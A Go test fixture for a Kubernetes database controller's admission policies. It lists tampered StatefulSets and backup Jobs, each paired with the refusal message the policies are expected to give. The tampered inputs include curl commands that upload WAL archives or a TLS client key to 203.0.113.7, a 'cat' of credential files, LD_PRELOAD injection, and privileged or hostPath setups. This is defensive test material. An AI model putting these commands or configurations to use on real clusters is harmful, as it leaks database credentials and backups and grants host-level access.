package controllerpolicy

import (
	"strings"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
)

// The policies that bound backup Jobs (controller-jobs.yaml) and every child's owner
// (controller-children.yaml).
const (
	jobs     = "database-controller-jobs"
	children = "database-controller-children"
)

// named is the container of containers named name; it panics when there is none.
func named(containers []corev1.Container, name string) *corev1.Container {
	for i := range containers {
		if containers[i].Name == name {
			return &containers[i]
		}
	}
	panic("no container " + name)
}

// volumeNamed is the volume of volumes named name; it panics when there is none.
func volumeNamed(volumes []corev1.Volume, name string) *corev1.Volume {
	for i := range volumes {
		if volumes[i].Name == name {
			return &volumes[i]
		}
	}
	panic("no volume " + name)
}

// envNamed is the variable of c named name; it panics when there is none.
func envNamed(c *corev1.Container, name string) *corev1.EnvVar {
	for i := range c.Env {
		if c.Env[i].Name == name {
			return &c.Env[i]
		}
	}
	panic("no variable " + name + " in container " + c.Name)
}

func secretEnv(name, secret, key string) corev1.EnvVar {
	return corev1.EnvVar{Name: name, ValueFrom: &corev1.EnvVarSource{
		SecretKeyRef: &corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: secret}, Key: key}}}
}

func backupContainer(sts *appsv1.StatefulSet) *corev1.Container {
	return named(sts.Spec.Template.Spec.Containers, "backup")
}

// BackupStatefulSetChanges turn the StatefulSet the controller builds for a PostgreSQL
// Database with spec.backup (specs.StatefulSet with Desired.Backup set, for a store whose
// Secret has a CA: the database container reads the store's keys and archives, the container
// backup runs pgBackRest's server, the volumes run, backup-tls and backup-store-ca) into one
// database-controller-workloads refuses, as StatefulSetChanges.
func BackupStatefulSetChanges() []StatefulSetChange {
	return []StatefulSetChange{
		{Name: "with a backup container running another command", Change: func(sts *appsv1.StatefulSet) {
			backupContainer(sts).Command = []string{"sh", "-c", "cat /etc/database-credentials/*"}
		}, Policy: workloads, Want: "container backup has a command or args other than the postgresql recipe's"},
		{Name: "with a backup container given args", Change: func(sts *appsv1.StatefulSet) {
			backupContainer(sts).Args = []string{"--tls-server-auth=*=*"}
		}, Policy: workloads, Want: "container backup has a command or args other than the postgresql recipe's"},
		{Name: "archiving through another command", Change: func(sts *appsv1.StatefulSet) {
			args := database(sts).Args
			for i, a := range args {
				if a == "archive_command=pgbackrest archive-push %p" {
					args[i] = "archive_command=curl -T %p https://203.0.113.7/"
				}
			}
		}, Policy: workloads, Want: "container database has a command or args other than the postgresql recipe's"},
		{Name: "with the archive settings before the recipe's", Change: func(sts *appsv1.StatefulSet) {
			args := database(sts).Args
			n := len(args) - 6
			database(sts).Args = append(append([]string{args[0]}, args[n:]...), args[1:n]...)
		}, Policy: workloads, Want: "container database has a command or args other than the postgresql recipe's"},
		{Name: "with a backup server as an init container", Change: func(sts *appsv1.StatefulSet) {
			// Under another name: a Pod's containers and init containers share one namespace.
			c := *backupContainer(sts).DeepCopy()
			c.Name, c.Ports = "pgbackrest", nil
			sts.Spec.Template.Spec.InitContainers = append(sts.Spec.Template.Spec.InitContainers, c)
		}, Policy: workloads, Want: "container pgbackrest is not one the recipe builds"},
		{Name: "with a privileged backup container", Change: func(sts *appsv1.StatefulSet) {
			sc := containerContext(backupContainer(sts))
			sc.Privileged, sc.AllowPrivilegeEscalation = ptr.To(true), nil
		}, Policy: workloads, Want: "container backup is privileged"},
		{Name: "with a backup container on a hostPort", Change: func(sts *appsv1.StatefulSet) {
			backupContainer(sts).Ports[0].HostPort = 8432
		}, Policy: workloads, Want: "container backup uses a hostPort"},
		{Name: "with a backup container of another image", Change: func(sts *appsv1.StatefulSet) {
			backupContainer(sts).Image = "quay.io/evil/pgbackrest:2"
		}, Policy: workloads, Want: "image quay.io/evil/pgbackrest:2 is not from the catalog repositories"},
		{Name: "with a backup container reading the credentials Secret", Change: func(sts *appsv1.StatefulSet) {
			c := backupContainer(sts)
			c.Env = append(c.Env, secretEnv("PGPASSWORD", sts.Name+"-credentials", "superuser-password"))
		}, Policy: workloads, Want: "container backup reads its environment from a Secret other than"},
		{Name: "with a backup container reading the store's keys", Change: func(sts *appsv1.StatefulSet) {
			c := backupContainer(sts)
			c.Env = append(c.Env, *envNamed(database(sts), "PGBACKREST_REPO1_S3_KEY").DeepCopy())
		}, Policy: workloads, Want: "container backup reads its environment from a Secret other than"},
		{Name: "reading another key of the store's Secret", Change: func(sts *appsv1.StatefulSet) {
			envNamed(database(sts), "PGBACKREST_REPO1_S3_KEY").ValueFrom.SecretKeyRef.Key = "password"
		}, Policy: workloads, Want: "container database reads its environment from a Secret other than"},
		{Name: "reading the store's key into another variable", Change: func(sts *appsv1.StatefulSet) {
			envNamed(database(sts), "PGBACKREST_REPO1_S3_KEY_SECRET").Name = "PGPASSWORD"
		}, Policy: workloads, Want: "container database reads its environment from a Secret other than"},
		{Name: "reading the store's keys from two Secrets", Change: func(sts *appsv1.StatefulSet) {
			envNamed(database(sts), "PGBACKREST_REPO1_S3_KEY_SECRET").ValueFrom.SecretKeyRef.Name = "other-store"
		}, Policy: workloads, Want: " and from other-store"},
		{Name: "archiving into another Database's stanza", Change: func(sts *appsv1.StatefulSet) {
			envNamed(database(sts), "PGBACKREST_STANZA").Value = "other"
		}, Policy: workloads, Want: "container database gives pgBackRest another stanza or repository than its Database's (PGBACKREST_STANZA="},
		{Name: "archiving into another namespace's repository", Change: func(sts *appsv1.StatefulSet) {
			p := envNamed(database(sts), "PGBACKREST_REPO1_PATH")
			p.Value = p.Value[:strings.LastIndex(p.Value, "/")] + "/other"
		}, Policy: workloads, Want: "container database gives pgBackRest another stanza or repository than its Database's"},
		{Name: "archiving out of its namespace's repository", Change: func(sts *appsv1.StatefulSet) {
			p := envNamed(database(sts), "PGBACKREST_REPO1_PATH")
			p.Value = "/other/.." + p.Value
		}, Policy: workloads, Want: "container database gives pgBackRest another stanza or repository than its Database's"},
		{Name: "giving pgBackRest a command to run", Change: func(sts *appsv1.StatefulSet) {
			c := database(sts)
			c.Env = append(c.Env, corev1.EnvVar{Name: "PGBACKREST_ARCHIVE_ASYNC", Value: "y"}, corev1.EnvVar{Name: "PGBACKREST_CMD", Value: "/bin/sh"})
		}, Policy: workloads, Want: "container database gives pgBackRest an option (a PGBACKREST_ variable) the engine's backups do not give it"},
		{Name: "with a backup server that does not verify its clients' stanza", Change: func(sts *appsv1.StatefulSet) {
			envNamed(backupContainer(sts), "PGBACKREST_TLS_SERVER_AUTH").Name = "PGBACKREST_TLS_SERVER_AUTH_ANY"
		}, Policy: workloads, Want: "container backup gives pgBackRest an option (a PGBACKREST_ variable) the engine's backups do not give it"},
		{Name: "with a backup container given another variable", Change: func(sts *appsv1.StatefulSet) {
			c := backupContainer(sts)
			c.Env = append(c.Env, corev1.EnvVar{Name: "LD_PRELOAD", Value: "/var/lib/postgresql/data/x.so"})
		}, Policy: workloads, Want: "container backup gives pgBackRest an option (a PGBACKREST_ variable) the engine's backups do not give it, has envFrom, or (the backup container) another variable"},
		{Name: "reading a whole Secret of its Database's into pgBackRest's options", Change: func(sts *appsv1.StatefulSet) {
			database(sts).EnvFrom = []corev1.EnvFromSource{{Prefix: "PGBACKREST_", SecretRef: &corev1.SecretEnvSource{
				LocalObjectReference: corev1.LocalObjectReference{Name: sts.Name + "-credentials"}}}}
		}, Policy: workloads, Want: "container database gives pgBackRest an option (a PGBACKREST_ variable) the engine's backups do not give it"},
		{Name: "with the store's CA from another Secret", Change: func(sts *appsv1.StatefulSet) {
			volumeNamed(sts.Spec.Template.Spec.Volumes, "backup-store-ca").Secret.SecretName = "other-store"
		}, Policy: workloads, Want: " and from other-store"},
		{Name: "mounting other keys of the store's Secret", Change: func(sts *appsv1.StatefulSet) {
			volumeNamed(sts.Spec.Template.Spec.Volumes, "backup-store-ca").Secret.Items = []corev1.KeyToPath{{Key: "secretAccessKey", Path: "ca.crt"}}
		}, Policy: workloads, Want: "volume backup-store-ca is not one the recipe mounts"},
		{Name: "mounting the whole store's Secret", Change: func(sts *appsv1.StatefulSet) {
			volumeNamed(sts.Spec.Template.Spec.Volumes, "backup-store-ca").Secret.Items = nil
		}, Policy: workloads, Want: "volume backup-store-ca is not one the recipe mounts"},
		{Name: "mounting a key besides the store's CA", Change: func(sts *appsv1.StatefulSet) {
			s := volumeNamed(sts.Spec.Template.Spec.Volumes, "backup-store-ca").Secret
			s.Items = append(s.Items, corev1.KeyToPath{Key: "secretAccessKey", Path: "key"})
		}, Policy: workloads, Want: "volume backup-store-ca is not one the recipe mounts"},
		{Name: "mounting another Secret as backup-tls", Change: func(sts *appsv1.StatefulSet) {
			volumeNamed(sts.Spec.Template.Spec.Volumes, "backup-tls").Secret.SecretName = "other-backup-tls"
		}, Policy: workloads, Want: "volume backup-tls is not one the recipe mounts"},
		{Name: "mounting the host as run", Change: func(sts *appsv1.StatefulSet) {
			volumeNamed(sts.Spec.Template.Spec.Volumes, "run").VolumeSource = corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/run"}}
		}, Policy: workloads, Want: "volume run is a hostPath"},
		{Name: "mounting a claim as run", Change: func(sts *appsv1.StatefulSet) {
			volumeNamed(sts.Spec.Template.Spec.Volumes, "run").VolumeSource = corev1.VolumeSource{
				PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "data-other-0"}}
		}, Policy: workloads, Want: "volume run is not one the recipe mounts"},
	}
}

// JobChange turns the backup Job the controller builds (specs.BackupJob, for a PostgreSQL
// Database with spec.backup whose store Secret has a CA: the init container stanza-create and
// the container backup, both reading the store's keys, the volumes backup-tls and
// backup-store-ca) into one the policies refuse, for the reason of one validation of Policy,
// whose message holds Want. Each change fails that one validation first, and passes API
// validation.
type JobChange struct {
	Name   string
	Change func(job *batchv1.Job)
	Policy string
	Want   string
}

func jobContainer(job *batchv1.Job, name string) *corev1.Container {
	if name == "stanza-create" {
		return named(job.Spec.Template.Spec.InitContainers, name)
	}
	return named(job.Spec.Template.Spec.Containers, name)
}

func jobPodContext(job *batchv1.Job) *corev1.PodSecurityContext {
	if job.Spec.Template.Spec.SecurityContext == nil {
		job.Spec.Template.Spec.SecurityContext = &corev1.PodSecurityContext{}
	}
	return job.Spec.Template.Spec.SecurityContext
}

// JobChanges are the shapes of Job the policies refuse: another owner, name or labels than
// the Database's backup Job's, another command or image, an API token or ServiceAccount, what
// the restricted Pod Security profile forbids, other environment from Secrets, other volumes,
// more Pods, retries or lifetime than the controller's.
func JobChanges() []JobChange {
	return []JobChange{
		{Name: "without a Database owner", Change: func(job *batchv1.Job) { job.OwnerReferences = nil },
			Policy: children, Want: "its controller ownerReference must be an example.com/v1 Database"},
		{Name: "owned by a CronJob", Change: func(job *batchv1.Job) {
			job.OwnerReferences = []metav1.OwnerReference{{APIVersion: "batch/v1", Kind: "CronJob", Name: job.Name,
				UID: "5c1e6a1e-9a53-4b8c-8f44-6a0a4e0b1a13", Controller: ptr.To(true)}}
		}, Policy: children, Want: "its controller ownerReference must be an example.com/v1 Database"},
		{Name: "controlled by another Database", Change: func(job *batchv1.Job) { job.OwnerReferences[0].Name = "other" },
			Policy: jobs, Want: "its label app.kubernetes.io/instance and its controller Database must name the same Database"},
		{Name: "of another name", Change: func(job *batchv1.Job) { job.Name = "cryptominer" },
			Policy: jobs, Want: "its name be <that name>-backup-<lowercase base 36>"},
		{Name: "named after another Database", Change: func(job *batchv1.Job) { job.Name = "other-backup-t0abcd" },
			Policy: jobs, Want: "its name be <that name>-backup-<lowercase base 36>"},
		{Name: "giving its Pods the Database's selector label", Change: func(job *batchv1.Job) {
			job.Spec.Template.Labels["app.kubernetes.io/name"] = "postgresql"
		}, Policy: jobs, Want: "the labels app.kubernetes.io/name of the Job or its Pod template are not exactly"},
		{Name: "giving its Pods another component", Change: func(job *batchv1.Job) {
			job.Spec.Template.Labels["app.kubernetes.io/component"] = "database"
		}, Policy: jobs, Want: "the labels app.kubernetes.io/component of the Job or its Pod template are not exactly"},
		{Name: "labelled for a tenant's Service", Change: func(job *batchv1.Job) { job.Labels["app"] = "frontend" },
			Policy: jobs, Want: "the labels app of the Job or its Pod template are not exactly"},
		{Name: "selecting other Pods", Change: func(job *batchv1.Job) {
			job.Spec.ManualSelector = ptr.To(true)
			job.Spec.Selector = &metav1.LabelSelector{MatchLabels: map[string]string{"app.kubernetes.io/instance": job.Labels["app.kubernetes.io/instance"]}}
		}, Policy: jobs, Want: "it sets manualSelector or a selector other than the one kube-apiserver generates"},
		{Name: "with an annotation", Change: func(job *batchv1.Job) {
			job.Spec.Template.Annotations = map[string]string{"prometheus.io/scrape": "true"}
		}, Policy: jobs, Want: "it has an annotation other than database.example.com/generation, or its Pod template annotations"},
		{Name: "retried a hundred times", Change: func(job *batchv1.Job) { job.Spec.BackoffLimit = ptr.To[int32](100) },
			Policy: jobs, Want: "it must set backoffLimit 1 and ttlSecondsAfterFinished 86400"},
		{Name: "kept for ever", Change: func(job *batchv1.Job) { job.Spec.TTLSecondsAfterFinished = nil },
			Policy: jobs, Want: "it must set backoffLimit 1 and ttlSecondsAfterFinished 86400"},
		{Name: "running ten Pods at once", Change: func(job *batchv1.Job) {
			job.Spec.Parallelism, job.Spec.Completions = ptr.To[int32](10), ptr.To[int32](10)
		}, Policy: jobs, Want: "and not completions, parallelism"},
		{Name: "managed by another controller", Change: func(job *batchv1.Job) { job.Spec.ManagedBy = ptr.To("example.com/elsewhere") },
			Policy: jobs, Want: "and not managedBy"},
		{Name: "with an image not in the catalog", Change: func(job *batchv1.Job) { jobContainer(job, "backup").Image = "busybox:1.36" },
			Policy: jobs, Want: "image busybox:1.36 is not from the catalog repositories"},
		{Name: "with an engine's image without backups", Change: func(job *batchv1.Job) {
			jobContainer(job, "stanza-create").Image = "docker.io/library/mysql:8.4"
		}, Policy: jobs, Want: "image docker.io/library/mysql:8.4 is not of an engine with backups (postgres)"},
		{Name: "on the host network", Change: func(job *batchv1.Job) { job.Spec.Template.Spec.HostNetwork = true },
			Policy: jobs, Want: "the Pod template sets hostNetwork"},
		{Name: "with a hostPath volume", Change: func(job *batchv1.Job) {
			job.Spec.Template.Spec.Volumes = append(job.Spec.Template.Spec.Volumes,
				corev1.Volume{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
		}, Policy: jobs, Want: "volume host is a hostPath"},
		{Name: "with a sidecar", Change: func(job *batchv1.Job) {
			c := *jobContainer(job, "backup").DeepCopy()
			c.Name = "sidecar"
			job.Spec.Template.Spec.Containers = append(job.Spec.Template.Spec.Containers, c)
		}, Policy: jobs, Want: "container sidecar is not one a backup Job runs"},
		{Name: "without stanza-create", Change: func(job *batchv1.Job) { job.Spec.Template.Spec.InitContainers = nil },
			Policy: jobs, Want: "container stanza-create (missing) is not one a backup Job runs"},
		{Name: "running another command", Change: func(job *batchv1.Job) {
			jobContainer(job, "backup").Command = []string{"sh", "-c", "pgbackrest backup; curl -T /etc/backup-tls/client.key https://203.0.113.7/"}
		}, Policy: jobs, Want: "container backup has a command or args other than the backup Job's"},
		{Name: "running stanza-delete", Change: func(job *batchv1.Job) {
			jobContainer(job, "stanza-create").Command = []string{"pgbackrest", "stanza-delete", "--force"}
		}, Policy: jobs, Want: "container stanza-create has a command or args other than the backup Job's"},
		{Name: "with args", Change: func(job *batchv1.Job) { jobContainer(job, "backup").Args = []string{"--repo1-retention-full=1"} },
			Policy: jobs, Want: "container backup has a command or args other than the backup Job's"},
		{Name: "with a probe", Change: func(job *batchv1.Job) {
			jobContainer(job, "backup").LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{
				Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "id"}}}, PeriodSeconds: 10}
		}, Policy: jobs, Want: "container backup has a probe, lifecycle hook or restartPolicy"},
		{Name: "with stanza-create as a sidecar", Change: func(job *batchv1.Job) {
			jobContainer(job, "stanza-create").RestartPolicy = ptr.To(corev1.ContainerRestartPolicyAlways)
		}, Policy: jobs, Want: "container stanza-create has a probe, lifecycle hook or restartPolicy"},
		{Name: "restarted in place", Change: func(job *batchv1.Job) { job.Spec.Template.Spec.RestartPolicy = corev1.RestartPolicyOnFailure },
			Policy: jobs, Want: "the Pod template's restartPolicy must be Never"},
		{Name: "reading another key of the store's Secret", Change: func(job *batchv1.Job) {
			envNamed(jobContainer(job, "backup"), "PGBACKREST_REPO1_S3_KEY").ValueFrom.SecretKeyRef.Key = "password"
		}, Policy: jobs, Want: "container backup reads its environment from a ConfigMap, from envFrom, or from a Secret but the store's key"},
		{Name: "reading the Database's credentials", Change: func(job *batchv1.Job) {
			c := jobContainer(job, "backup")
			c.Env = append(c.Env, secretEnv("PGPASSWORD", job.Labels["app.kubernetes.io/instance"]+"-credentials", "superuser-password"))
		}, Policy: jobs, Want: "container backup reads its environment from a ConfigMap, from envFrom, or from a Secret but the store's key"},
		{Name: "reading a whole Secret", Change: func(job *batchv1.Job) {
			jobContainer(job, "stanza-create").EnvFrom = []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{
				LocalObjectReference: corev1.LocalObjectReference{Name: "store"}}}}
		}, Policy: jobs, Want: "container stanza-create reads its environment from a ConfigMap, from envFrom, or from a Secret but the store's key"},
		{Name: "reading a ConfigMap", Change: func(job *batchv1.Job) {
			c := jobContainer(job, "backup")
			c.Env = append(c.Env, corev1.EnvVar{Name: "PGBACKREST_REPO1_HOST", ValueFrom: &corev1.EnvVarSource{
				ConfigMapKeyRef: &corev1.ConfigMapKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "elsewhere"}, Key: "host"}}})
		}, Policy: jobs, Want: "container backup reads its environment from a ConfigMap, from envFrom, or from a Secret but the store's key"},
		{Name: "backing up into another Database's stanza", Change: func(job *batchv1.Job) {
			envNamed(jobContainer(job, "backup"), "PGBACKREST_STANZA").Value = "other"
		}, Policy: jobs, Want: "container backup gives pgBackRest another stanza or repository than its Database's (PGBACKREST_STANZA="},
		{Name: "expiring another namespace's repository", Change: func(job *batchv1.Job) {
			envNamed(jobContainer(job, "stanza-create"), "PGBACKREST_REPO1_PATH").Value = "/"
		}, Policy: jobs, Want: "container stanza-create gives pgBackRest another stanza or repository than its Database's"},
		{Name: "giving pgBackRest another option", Change: func(job *batchv1.Job) {
			c := jobContainer(job, "backup")
			c.Env = append(c.Env, corev1.EnvVar{Name: "PGBACKREST_REPO1_STORAGE_VERIFY_TLS", Value: "n"})
		}, Policy: jobs, Want: "container backup has a variable other than the pgBackRest options of the backup Job"},
		{Name: "giving pgBackRest an eleventh host", Change: func(job *batchv1.Job) {
			c := jobContainer(job, "stanza-create")
			c.Env = append(c.Env, corev1.EnvVar{Name: "PGBACKREST_PG11_HOST", Value: "203.0.113.7"})
		}, Policy: jobs, Want: "container stanza-create has a variable other than the pgBackRest options of the backup Job"},
		{Name: "with another variable", Change: func(job *batchv1.Job) {
			c := jobContainer(job, "backup")
			c.Env = append(c.Env, corev1.EnvVar{Name: "LD_PRELOAD", Value: "/etc/backup-tls/client.key"})
		}, Policy: jobs, Want: "container backup has a variable other than the pgBackRest options of the backup Job"},
		{Name: "reading the store's keys from two Secrets", Change: func(job *batchv1.Job) {
			envNamed(jobContainer(job, "backup"), "PGBACKREST_REPO1_S3_KEY_SECRET").ValueFrom.SecretKeyRef.Name = "other-store"
		}, Policy: jobs, Want: " and from other-store"},
		{Name: "mounting other keys of the store's Secret", Change: func(job *batchv1.Job) {
			volumeNamed(job.Spec.Template.Spec.Volumes, "backup-store-ca").Secret.Items = []corev1.KeyToPath{{Key: "secretAccessKey", Path: "ca.crt"}}
		}, Policy: jobs, Want: "volume backup-store-ca is not one a backup Job mounts"},
		{Name: "mounting another Secret as backup-tls", Change: func(job *batchv1.Job) {
			volumeNamed(job.Spec.Template.Spec.Volumes, "backup-tls").Secret.SecretName = "other-backup-tls"
		}, Policy: jobs, Want: "volume backup-tls is not one a backup Job mounts"},
		{Name: "mounting a ServiceAccount token", Change: func(job *batchv1.Job) {
			job.Spec.Template.Spec.Volumes = append(job.Spec.Template.Spec.Volumes, corev1.Volume{Name: "token",
				VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{Sources: []corev1.VolumeProjection{{
					ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "token"}}}}}})
		}, Policy: jobs, Want: "volume token is not one a backup Job mounts"},
		{Name: "mounting the data claim", Change: func(job *batchv1.Job) {
			job.Spec.Template.Spec.Volumes = append(job.Spec.Template.Spec.Volumes, corev1.Volume{Name: "data",
				VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{
					ClaimName: "data-" + job.Labels["app.kubernetes.io/instance"] + "-0"}}})
		}, Policy: jobs, Want: "volume data is not one a backup Job mounts"},
		{Name: "privileged", Change: func(job *batchv1.Job) {
			sc := jobContainer(job, "backup").SecurityContext
			sc.Privileged, sc.AllowPrivilegeEscalation = ptr.To(true), nil
		}, Policy: jobs, Want: "container backup is privileged"},
		{Name: "allowing privilege escalation", Change: func(job *batchv1.Job) {
			jobContainer(job, "stanza-create").SecurityContext.AllowPrivilegeEscalation = ptr.To(true)
		}, Policy: jobs, Want: "container stanza-create does not set allowPrivilegeEscalation false"},
		{Name: "adding SYS_ADMIN", Change: func(job *batchv1.Job) {
			jobContainer(job, "backup").SecurityContext.Capabilities.Add = []corev1.Capability{"SYS_ADMIN"}
		}, Policy: jobs, Want: "container backup adds capabilities other than NET_BIND_SERVICE"},
		{Name: "running as user 0", Change: func(job *batchv1.Job) { jobPodContext(job).RunAsUser = ptr.To[int64](0) },
			Policy: jobs, Want: "container backup, stanza-create may run as root"},
		{Name: "with an Unconfined seccomp profile", Change: func(job *batchv1.Job) {
			jobPodContext(job).SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
		}, Policy: jobs, Want: "container backup, stanza-create has a seccomp profile other than RuntimeDefault"},
		{Name: "with a nodeName", Change: func(job *batchv1.Job) { job.Spec.Template.Spec.NodeName = "control-plane" },
			Policy: jobs, Want: "the Pod template sets nodeName, which the recipe leaves unset"},
		{Name: "as another ServiceAccount", Change: func(job *batchv1.Job) { job.Spec.Template.Spec.ServiceAccountName = "admin" },
			Policy: jobs, Want: "runs as ServiceAccount admin, not the namespace default"},
		{Name: "mounting an API token", Change: func(job *batchv1.Job) { job.Spec.Template.Spec.AutomountServiceAccountToken = ptr.To(true) },
			Policy: jobs, Want: "must set automountServiceAccountToken false"},
		{Name: "mounting an API token by default", Change: func(job *batchv1.Job) { job.Spec.Template.Spec.AutomountServiceAccountToken = nil },
			Policy: jobs, Want: "must set automountServiceAccountToken false"},
	}
}
